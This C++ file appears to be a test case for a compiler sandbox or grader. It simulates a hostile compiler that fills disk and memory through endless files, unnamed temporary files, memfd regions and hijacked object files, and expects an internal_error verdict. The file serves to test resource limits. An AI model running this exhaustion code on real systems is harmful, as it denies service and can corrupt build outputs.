// attack: a compiler that fills the disk and the memory: files without end, some without a name, some in folders of its own
// verdict: internal_error
// weak: open

#include "taken_compiler.hpp"

#include <fcntl.h>
#include <linux/openat2.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include <string>

static const long piece = 16 << 20;
static long total = 0;

static void fill(int fd) {
  if (fd >= 0 && posix_fallocate(fd, 0, piece) == 0) total += piece;
}

void attack() {
  mkdir("more", 0700);
  for (int i = 0; i < 64; ++i) {
    const std::string name = std::to_string(i);
    fill(open(name.c_str(), O_CREAT | O_WRONLY, 0600));
    fill(open(("more/" + name).c_str(), O_CREAT | O_WRONLY, 0600));
    fill(open(".", O_TMPFILE | O_WRONLY, 0600));
    fill(memfd_create("memory", 0));
    open_how how{O_TMPFILE | O_WRONLY, 0600, 0};
    fill(static_cast<int>(syscall(SYS_openat2, AT_FDCWD, ".", &how, sizeof how)));
    const int unnamed = open("unnamed", O_CREAT | O_WRONLY, 0600);
    unlink("unnamed");
    fill(unnamed);
  }
  // What is there already, by other names too.
  for (int i = 0; i < 64; ++i) {
    const std::string name = "matrix_attention.cpp" + std::to_string(i);
    if (link("matrix_attention.cpp.o", name.c_str()) == 0 || rename("matrix_attention.cpp.o", name.c_str()) == 0)
      fill(open(name.c_str(), O_WRONLY));
  }
  claim(total > 0, "files");
}
